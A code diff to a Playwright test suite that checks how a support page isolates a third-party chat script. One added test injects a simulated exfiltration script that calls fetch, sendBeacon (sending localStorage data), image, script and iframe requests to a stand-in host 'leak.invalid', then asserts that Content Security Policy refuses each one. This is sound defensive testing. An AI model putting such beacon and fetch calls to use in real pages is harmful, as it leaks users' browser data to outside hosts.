@@ -5,6 +5,7 @@ import { findings } from './findings.ts';
 import { pdfOf } from '#tests/server/pdf-of.ts';
 import { expect, test } from './journey.ts';
 import { specimen } from './specimen.ts';
+import type { Words } from './words.ts';
 
 test.use({ profile: 'es', client: 'marta', language: 'en-US' });
 
@@ -103,14 +104,18 @@ test.describe('the chat of another company', () => {
   })();`;
   const hashOf = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
 
-  async function offer(page: Page, answered: string | null): Promise<string[]> {
+  async function offer(
+    page: Page,
+    answered: string | null,
+    checked: string = script,
+  ): Promise<string[]> {
     const asked: string[] = [];
     await page.route('**/profile.*.json', async (route) => {
       const file = await (await route.fetch()).json();
       const chat = {
         system: 'acme',
         script: '/acme-chat.js',
-        integrity: hashOf(script),
+        integrity: hashOf(checked),
         queue: 'acme',
       };
       await route.fulfill({ json: { ...file, profile: { ...file.profile, chat } } });
@@ -170,11 +175,7 @@ test.describe('the chat of another company', () => {
       await page.clock.install();
       await offer(page, answered);
       await page.goto('/support');
-      // The account may have the consent of another browser.
-      await page
-        .getByRole('button', { name: words('chat.plugin.agree') })
-        .or(page.getByRole('button', { name: words('chat.plugin.open') }))
-        .click();
+      await openPlugin(page, words);
       await page.clock.runFor(9_000);
       const main = page.getByRole('main');
       await expect(main.getByRole('alert')).toContainText(words('error.chatUnavailable'));
@@ -182,4 +183,60 @@ test.describe('the chat of another company', () => {
       await expect(page.locator('#acme-chat')).toHaveCount(0);
       expect(await findings(page)).toEqual([]);
     });
+
+  // Both are the script that was checked: what was checked may still be bad.
+  test('a script that throws leaves the page as it was; how else to reach the tenant stands there', async ({
+    page,
+    words,
+    pageErrors,
+  }) => {
+    pageErrors.expect(/no chat today|did not/);
+    await page.clock.install();
+    const throwing = `throw new Error('no chat today'); ${script}`;
+    await offer(page, throwing, throwing);
+    await page.goto('/support');
+    await openPlugin(page, words);
+    await page.clock.runFor(9_000);
+    const main = page.getByRole('main');
+    await expect(main.getByRole('alert')).toContainText(words('error.chatUnavailable'));
+    await expect(main.getByRole('link', { name: /@/ }).first()).toBeVisible();
+    await expect(page.locator('#acme-chat')).toHaveCount(0);
+  });
+
+  test('a script that tries to reach other hosts is refused each of them', async ({
+    page,
+    words,
+    pageErrors,
+  }) => {
+    pageErrors.expect(/Content Security Policy|leak\.invalid|Failed to fetch/);
+    const reached: string[] = [];
+    await page.context().route(/leak\.invalid/, (route) => {
+      reached.push(route.request().url());
+      return route.abort();
+    });
+    const reaching = `${script}
+      window.refused = [];
+      addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));
+      fetch('https://leak.invalid/fetched').catch(() => undefined);
+      navigator.sendBeacon('https://leak.invalid/beacon', localStorage.length);
+      new Image().src = 'https://leak.invalid/image.png';
+      document.head.append(Object.assign(document.createElement('script'), { src: 'https://leak.invalid/more.js' }));
+      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://leak.invalid/frame' }));`;
+    await offer(page, reaching, reaching);
+    await page.goto('/support');
+    await openPlugin(page, words);
+    await expect(page.locator('#acme-chat')).toHaveCount(1);
+    await expect
+      .poll(async () => (await page.evaluate<string[]>('window.refused')).toSorted())
+      .toEqual(['connect-src', 'connect-src', 'frame-src', 'img-src', 'script-src-elem']);
+    expect(reached).toEqual([]);
+  });
 });
+
+/** The account may have the consent of another browser. */
+async function openPlugin(page: Page, words: Words): Promise<void> {
+  await page
+    .getByRole('button', { name: words('chat.plugin.agree') })
+    .or(page.getByRole('button', { name: words('chat.plugin.open') }))
+    .click();
+}
